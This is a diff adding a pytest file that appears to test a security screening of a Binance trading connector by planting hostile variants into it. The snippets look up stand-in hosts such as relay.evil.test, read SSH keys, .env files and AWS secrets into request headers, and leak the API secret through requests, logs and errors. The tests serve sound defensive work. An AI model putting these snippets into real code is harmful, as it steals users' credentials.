@@ -1,0 +1,215 @@
+"""Carrying keys out of the sandbox, from inside a real connector.
+
+The released binance connector with a thief in it, before the checks that a screening runs.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from rich.console import Console
+
+from checks.conformance import test_security as checks
+from demo.prepare import prepare
+from harness.checking import Failed
+from harness.commands.check import check_work_tree
+from harness.grading import Verdict
+from harness.paths import cache_dir
+from harness.plan import calm
+from tests.hostile.attack import attack
+from tests.hostile.leaking import leaked
+from tests.world import git
+from tests.zoo.defect import AUTH, EXCHANGE, UTILS, Defect, defect
+from tests.zoo.keeping import PACE, Zoo
+from tests.zoo.planting import behaving, rewritten
+
+
+def spoilt(name: str, file: str, owner: str, members: str) -> Defect:
+    return defect(name, checks.test_only_declared_hosts, "", behaving(file, owner, members))
+
+
+def finding(zoo: Zoo, bad: Defect, check: Callable[..., None]) -> Failed:
+    """What the check found, in the second, calm try too; nothing of a secret is in it."""
+    with zoo.bad(bad) as specimen:
+        for pace in (PACE, calm(PACE)):
+            with pytest.raises(Failed) as found:
+                specimen.check(check, pace)
+        told = found.value.summary + "".join(each.model_dump_json() for each in found.value.evidence)
+        assert specimen.lab.canaries.redact(told) == told
+    assert found.value.evidence
+    return found.value
+
+
+@attack(
+    "calls home only when its exchange is down for maintenance",
+    meets="every scenario counts: the finding names the host and the story",
+)
+def test_a_call_home_in_one_story_only(zoo: Zoo) -> None:
+    bad = spoilt(
+        "calls-home-in-need",
+        EXCHANGE,
+        "BinanceExchange",
+        """
+        async def _api_request(self, *args, **kwargs):
+            import socket
+
+            try:
+                return await super()._api_request(*args, **kwargs)
+            except Exception as error:
+                if "maintenance" in str(error):
+                    socket.getaddrinfo("relay.evil.test", 443)
+                raise
+        """,
+    )
+    found = finding(zoo, bad, checks.test_only_declared_hosts)
+    assert (
+        "tried to reach relay.evil.test, which is not declared (story: take exchange away)" in found.summary
+    )
+    assert found.evidence[0].data["story"] == "take exchange away"
+
+
+@attack(
+    "waits for a moment when no scenario is running, and looks a name up then",
+    meets="a gateway that serves nobody listens between the scenarios",
+)
+def test_a_call_home_between_the_stories(zoo: Zoo) -> None:
+    watcher = """
+import os, socket, threading, time
+def _watch():
+    before = 0
+    for _ in range(100000):
+        now = sum(name.isdigit() for name in os.listdir("/proc"))
+        if now < before:
+            socket.getaddrinfo("idle.evil.test", 443)
+            return
+        before = now
+        time.sleep(0.002)
+threading.Thread(target=_watch, daemon=True).start()
+"""
+    bad = defect(
+        "calls-home-unwatched",
+        checks.test_only_declared_hosts,
+        "",
+        rewritten(UTILS, lambda source: source + watcher),
+    )
+    found = finding(zoo, bad, checks.test_only_declared_hosts)
+    assert "tried to reach idle.evil.test" in found.summary
+    assert found.evidence[0].data["story"] == "between the stories"
+
+
+@attack(
+    "takes the keys it finds in its home and its environment, and sends them to its exchange",
+    meets="they are decoys, searched for in all that leaves: a blocker that names the file",
+)
+@pytest.mark.parametrize("loot", ["~/.ssh/id_ed25519", "~/.env", "$AWS_SECRET_ACCESS_KEY"])
+def test_a_thief_of_files(zoo: Zoo, loot: str) -> None:
+    bad = spoilt(
+        f"thief-{len(loot)}",
+        AUTH,
+        "BinanceAuth",
+        f"""
+        def header_for_authentication(self):
+            import os
+
+            loot = os.path.expandvars(os.path.expanduser({loot!r}))
+            text = open(loot).read() if os.path.exists(loot) else loot
+            return {{**super().header_for_authentication(), "X-Trace": text.encode().hex()[:3000]}}
+        """,
+    )
+    found = finding(zoo, bad, checks.test_secrets_never_leave)
+    assert f"The file or variable decoy {loot} left the connector (header X-Trace" in found.summary
+
+
+@attack(
+    "leaks once, in the first seconds of its life, and behaves from then on",
+    meets="a leak counts at whatever pace and in whichever try it was seen",
+)
+def test_a_leak_that_happens_once(zoo: Zoo) -> None:
+    bad = spoilt(
+        "leaks-once",
+        EXCHANGE,
+        "BinanceExchange",
+        """
+        async def _make_network_check_request(self):
+            import os
+
+            mark = "/tmp/work/done"
+            if not os.path.exists(mark):
+                open(mark, "w").close()
+                await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={"r": self.secret_key[20:40]})
+            await super()._make_network_check_request()
+        """,
+    )
+    found = finding(zoo, bad, checks.test_secrets_never_leave)
+    assert "The secret binance_api_secret left the connector (url to api.binance.com" in found.summary
+    assert found.evidence[0].data["spelling"] == "plain, 20 of 64 characters"
+
+
+BLABBING = """
+
+import base64
+class BinanceExchange(BinanceExchange):
+    async def _make_network_check_request(self):
+        said = base64.b64encode(self.secret_key.encode()).decode()
+        self.logger().warning(f"cannot use the key {said}")
+        await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={"k": self.secret_key[:30]})
+        await super()._make_network_check_request()
+    def get_order_book(self, trading_pair):
+        raise ValueError(f"no book for {self.secret_key.encode().hex()}")
+    def get_fee(self, *args, **kwargs):
+        raise RuntimeError(open("/home/trader/.ssh/id_ed25519").read())
+    @property
+    def trading_rules(self):
+        raise KeyError(self.secret_key)
+"""
+# Runs in the process of the checks before anything else, and keeps a list of the secrets it makes up.
+SPY_ON_SECRETS = """
+import os, sys
+def keep(module, name):
+    make = getattr(module, name)
+    def kept(length):
+        value = make(length)
+        with open(os.environ["SPY_ON_SECRETS"], "a") as file: file.write(value + "\\n")
+        return value
+    setattr(module, name, kept)
+if "--plan" in sys.orig_argv:
+    import harness.decoys, harness.venue.session
+    keep(harness.decoys, "_random"); keep(harness.venue.session, "_token")
+"""
+
+
+@attack(
+    "says its keys in its log, its errors and its requests, so that the report publishes them",
+    meets="every outcome is redacted before it is written: no published file holds a piece of a secret",
+)
+def test_a_report_as_the_leak(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    round_file, fork = prepare(cache_dir()), tmp_path / "fork"
+    git(tmp_path, "clone", "-q", str(round_file.parent / "forks" / "binance.git"), str(fork))
+    source = fork / "hummingbot/connector/exchange/binance/binance_exchange.py"
+    source.write_text(source.read_text(encoding="utf-8") + BLABBING, encoding="utf-8")
+    (tmp_path / "site").mkdir()
+    (tmp_path / "site" / "sitecustomize.py").write_text(SPY_ON_SECRETS)
+    monkeypatch.setenv("PYTHONPATH", str(tmp_path / "site"))
+    monkeypatch.setenv("SPY_ON_SECRETS", str(tmp_path / "kept"))
+    verdict = check_work_tree(
+        fork,
+        connector=None,
+        select="secrets or book",
+        round_file=round_file,
+        upstream=None,
+        exchange=None,
+        sandbox="auto",
+        reports=tmp_path / "reports",
+        seed=1,
+        scale=PACE,
+        console=Console(quiet=True),
+    )
+    assert verdict is Verdict.INELIGIBLE
+    kept = set((tmp_path / "kept").read_text().split())
+    assert all(leaked(f"it said {each.encode().hex()}", each) for each in kept)
+    published = [path for path in (tmp_path / "reports").rglob("*") if path.is_file()]
+    texts = {path.name: path.read_text(encoding="utf-8", errors="replace") for path in published}
+    assert "no book for ‹binance_api_secret›" in texts["index.html"]
+    assert {name for name, text in texts.items() for each in kept if leaked(text, each)} == set()
